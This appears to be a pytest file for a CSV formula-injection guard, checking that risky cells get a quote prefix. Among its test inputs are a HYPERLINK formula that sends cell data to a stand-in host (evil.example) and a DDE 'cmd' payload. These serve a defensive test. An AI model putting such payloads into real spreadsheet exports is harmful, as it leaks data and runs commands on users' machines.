from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from frontdesk.lib.csv_safe import csv_cell, csv_writer


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n@x",
        "\uff1d1+1",
        "-5.00",
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Smith", "O'Brien", "2026-11-23", "a=b", "1+1", "", "line 3: bad"]
)
def test_other_text_is_written_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


def test_numbers_stay_numbers_and_other_values_are_written_as_text() -> None:
    assert csv_cell(-5) == -5 and csv_cell(-0.25) == -0.25
    assert csv_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert csv_cell(None) is None and csv_cell(True) is True

    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert csv_cell(Sneaky()) == "'=1+1"


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["=header", "name"])
    writer.writerows([["@x", -1.5], ["ok", "+y"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=header", "name"], ["'@x", "-1.5"], ["ok", "'+y"]]
